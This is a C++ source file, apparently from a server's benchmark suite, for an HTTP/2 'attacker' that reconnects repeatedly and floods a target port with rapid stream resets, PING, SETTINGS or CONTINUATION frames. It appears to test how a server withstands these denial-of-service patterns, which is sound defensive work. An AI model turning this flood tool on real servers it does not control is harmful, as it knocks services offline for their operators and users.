// SPDX-FileCopyrightText: The Elanus authors
// SPDX-License-Identifier: Apache-2.0
//
// One attacker: as many hostile frames as the server takes, over a connection that is opened again each time that the
// server closes it, until SIGTERM. Its replies are read and dropped.
//   h2_attacker --port P --attack reset|ping|settings|continuation [--pause MS]
// Who was closed comes back after a pause: at a distance of 5 ms he learns of it, and has a new connection, 10 ms
// later. At its end it says how often it was closed and how many bytes it sent.
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <string>
#include <thread>

#include "bench/common/flags.h"
#include "bench/common/http2.h"
#include "bench/common/program.h"
#include "bench/common/socket.h"

namespace {

namespace http2 = bench::http2;

constexpr int kBatch = 100;

// The next frames of an attack.
class Attack {
 public:
  explicit Attack(std::string kind) : kind_(std::move(kind)) {}
  std::string Begin() {
    stream_ = 1;
    std::string bytes = http2::Preface();
    if (kind_ == "continuation") bytes += http2::Frame(http2::Type::kHeaders, 0, 1, http2::Literal("a", "b"));
    return bytes;
  }
  std::string Next() {
    std::string out;
    for (int i = 0; i < kBatch; ++i) out += One();
    return out;
  }

 private:
  std::string One() {
    if (kind_ == "ping") return http2::Frame(http2::Type::kPing, 0, 0, "12345678");
    if (kind_ == "settings") return http2::Frame(http2::Type::kSettings, 0, 0, "");
    if (kind_ == "continuation") return http2::Frame(static_cast<http2::Type>(9), 0, 1, http2::Literal("a", "b"));
    if (kind_ != "reset") bench::Die("expected reset, ping, settings or continuation, got " + kind_);
    const std::string reset = http2::Frame(http2::Type::kReset, 0, stream_, http2::Number(8));
    const std::string open =
        http2::Frame(http2::Type::kHeaders, http2::kEndHeaders, stream_, http2::RequestHeaders("/echo.Echo/Say"));
    stream_ += 2;
    return open + reset;
  }

  const std::string kind_;
  std::uint32_t stream_ = 1;
};

// False when the server has closed.
bool Drain(int fd) {
  char dropped[65536];
  while (true) {
    const ssize_t n = recv(fd, dropped, sizeof dropped, MSG_DONTWAIT);
    if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR)) return false;
    if (n < 0) return true;
  }
}

bool SendAll(int fd, const std::string& bytes, std::uint64_t& sent, const std::atomic<bool>& stop) {
  for (std::size_t at = 0; at < bytes.size() && !stop;) {
    if (!Drain(fd)) return false;
    const ssize_t n = send(fd, bytes.data() + at, bytes.size() - at, MSG_NOSIGNAL | MSG_DONTWAIT);
    if (n > 0) {
      at += static_cast<std::size_t>(n);
      sent += static_cast<std::uint64_t>(n);
    } else if (errno == EAGAIN) {
      pollfd both = {fd, POLLIN | POLLOUT, 0};
      poll(&both, 1, 10);
    } else {
      return false;
    }
  }
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  bench::Begin();
  const bench::Flags flags(argc, argv, {{"port", ""}, {"attack", "reset"}, {"pause", "10"}});
  std::atomic<bool> stop = false;
  std::uint64_t sent = 0, closed = 0;
  std::thread attacker([&] {
    Attack attack(flags.Text("attack"));
    while (!stop) {
      const int fd = bench::Connect(flags.Int("port"));
      if (SendAll(fd, attack.Begin(), sent, stop)) {
        while (!stop && SendAll(fd, attack.Next(), sent, stop)) {
        }
      }
      close(fd);
      ++closed;
      usleep(static_cast<useconds_t>(flags.Int("pause")) * 1000);
    }
  });
  bench::SayPort(flags.Int("port"));
  bench::WaitForStop();
  stop = true;
  attacker.join();
  bench::Line().Add("closed", closed).Add("sent", sent).Print();
}
